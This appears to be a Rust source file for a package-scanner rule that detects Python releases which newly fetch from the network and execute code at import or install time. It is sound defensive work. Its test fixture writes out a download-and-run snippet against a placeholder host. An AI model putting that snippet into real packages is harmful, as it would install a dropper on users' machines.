//! `py-download-exec`: code that runs without being called (import, interpreter start,
//! install) newly both fetches from the network and starts, loads or executes something.

use std::collections::BTreeMap;

use turncoat_finding::{Finding, Level, RuleDoc, Severity};

use super::{DiffCx, evidence};
use crate::facts::{Capability, DistFacts, Moment, Occurrence};

pub(crate) const RULE: RuleDoc = RuleDoc {
    code: "py-download-exec",
    group: "pyanalyze",
    severity: Severity::Critical,
    default_level: Level::Deny,
    summary: "Code that runs at import, interpreter start or install time newly both uses the network and runs something (a process, native code, exec, chmod).",
    doc: r#"Fires for a file of the new release whose import-time (or interpreter-start or install-time) code uses the network and also starts a process (`subprocess`, `os.system`, `os.popen`), loads native code (`ctypes.CDLL`), makes a file executable (`os.chmod`) or executes code (`exec`, `eval`, decoded data), when the previous release had no such pairing at those moments anywhere.

**Why it matters.** The ultralytics 8.3.41 releases (2024), built by a poisoned CI, downloaded and started a cryptominer when the package was imported. Fetch-then-run at import is the dropper shape; libraries do it at call time, if at all.

**How to silence.** A policy exception on `py-download-exec` for `name@version`, after reading the code."#,
};

const RUNS: &[Capability] = &[
    Capability::Subprocess,
    Capability::NativeLoad,
    Capability::Chmod,
    Capability::Exec,
    Capability::EncodedExec,
];

fn early<'a>(f: &'a DistFacts, caps: &[Capability]) -> impl Iterator<Item = &'a Occurrence> {
    f.occurrences
        .iter()
        .filter(move |o| o.moment <= Moment::Import && caps.contains(&o.capability))
}

pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
    let had = early(cx.old, &[Capability::Network]).next().is_some()
        && early(cx.old, RUNS).next().is_some();
    if had {
        return;
    }
    let mut by_file: BTreeMap<&str, (Option<&Occurrence>, Option<&Occurrence>)> = BTreeMap::new();
    for o in early(cx.new, &[Capability::Network]) {
        by_file.entry(&o.path).or_default().0.get_or_insert(o);
    }
    for o in early(cx.new, RUNS) {
        by_file.entry(&o.path).or_default().1.get_or_insert(o);
    }
    for (path, pair) in by_file {
        let (Some(net), Some(run)) = pair else {
            continue;
        };
        out.push(
            Finding::new(
                &RULE,
                format!(
                    "{path} in {} uses the network ({}) and runs something ({}) at {}; {} did neither before being called",
                    cx.to(),
                    net.detail.as_deref().unwrap_or("?"),
                    run.detail.as_deref().unwrap_or("?"),
                    net.moment.min(run.moment).as_str(),
                    cx.from(),
                ),
            )
            .with_evidence_all([evidence(net), evidence(run)]),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::*;

    #[test]
    fn fires_for_import_time_fetch_and_run() {
        let new = "import urllib.request, subprocess\nurllib.request.urlretrieve('https://x.invalid/m', '/tmp/m')\nsubprocess.Popen(['/tmp/m'])\n";
        assert_eq!(init_diff("x = 1\n", new, RULE.code).len(), 1);
    }

    #[test]
    fn quiet_at_call_time() {
        let new = "import urllib.request, subprocess\ndef fetch():\n    urllib.request.urlretrieve('https://x.invalid/m', '/tmp/m')\n    subprocess.Popen(['/tmp/m'])\n";
        assert!(init_diff("x = 1\n", new, RULE.code).is_empty());
    }
}
